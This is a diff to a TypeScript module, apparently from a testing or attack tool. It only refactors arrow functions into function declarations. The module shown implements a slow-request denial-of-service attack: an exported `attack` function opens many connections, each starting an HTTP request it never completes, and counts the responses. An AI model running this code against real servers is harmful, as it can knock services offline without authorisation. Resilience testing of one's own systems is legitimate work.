@@ -13,11 +13,11 @@ export type Unfinished = {
 
 const CHUNK = Buffer.alloc(16 * 1024, 'a')
 
-const sendBody = (socket: Socket, bytes: number) => {
+function sendBody(socket: Socket, bytes: number) {
   for (let left = bytes; left > 0; left -= CHUNK.length) socket.write(CHUNK.subarray(0, left))
 }
 
-const beginRequest = (origin: string, { path, headers = {}, declared, begin = '', sent }: Unfinished) => {
+function beginRequest(origin: string, { path, headers = {}, declared, begin = '', sent }: Unfinished) {
   const { hostname, port, host } = new URL(origin)
   const socket = connect(Number(port), hostname)
   const lines = Object.entries({ host, 'content-length': `${declared}`, ...headers })
@@ -36,10 +36,10 @@ const beginRequest = (origin: string, { path, headers = {}, declared, begin = ''
 }
 
 /** Opens so many connections that each begin a request and never end it. Resolves, once all are closed, to what was answered. */
-export const attack = async (
+export async function attack(
   origin: string,
   { connections, ...unfinished }: Unfinished & { connections: number },
-): Promise<Map<string, number>> => {
+): Promise<Map<string, number>> {
   const all = Array.from({ length: connections }, () => beginRequest(origin, unfinished))
   const counts = new Map<string, number>()
   for (const status of await Promise.all(all)) counts.set(status, (counts.get(status) ?? 0) + 1)
